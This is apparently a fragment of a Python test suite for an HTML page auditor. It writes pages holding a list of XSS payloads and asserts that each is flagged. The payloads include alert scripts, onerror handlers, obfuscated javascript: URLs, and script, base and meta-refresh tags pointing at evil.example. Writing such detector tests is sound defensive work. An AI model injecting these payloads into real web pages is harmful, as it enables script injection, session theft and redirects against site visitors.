    bad = [
        "<script>alert(1)</script>",
        '<script src="https://evil.example/x.js"></script>',
        '<script type="application/json">{"a": "<!--"}</script>',
        '<script type="application/json">{"a": NaN}</script>',
        "<img src=x onerror=alert(1)>",
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href=" JaVaScRiPt:alert(1)">x</a>',
        '<a href="DATA:text/html,x">x</a>',
        '<a href="vbscript:x">x</a>',
        '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
        '<iframe src="https://x.example"></iframe>',
        '<object data="x"></object>', '<embed src="x">', "<form action=x></form>",
        '<base href="https://evil.example/">',
        '<meta http-equiv="Refresh" content="0;url=https://evil.example/">',
    ]
    for snippet in bad:
        page = tmp_path / "page.html"
        page.write_text(f"<!DOCTYPE html><html><body>{snippet}</body></html>", encoding="utf-8")
        assert _audit(page).problems, f"the audit misses {snippet}"
    good = ('<script src="../assets/charts.1234.js"></script>'
            '<script type="application/json">{"a": "\\u003c/script\\u003e", "b": -1.5}</script>'
            '<a href="https://example.com/">ok</a><p>&lt;script&gt;alert(1)&lt;/script&gt;</p>')
    page = tmp_path / "page.html"
    page.write_text(f"<!DOCTYPE html><html><body>{good}</body></html>", encoding="utf-8")
    audit = _audit(page)
    assert not audit.problems, audit.problems
    assert "<script>alert(1)</script>" in "".join(audit.text)
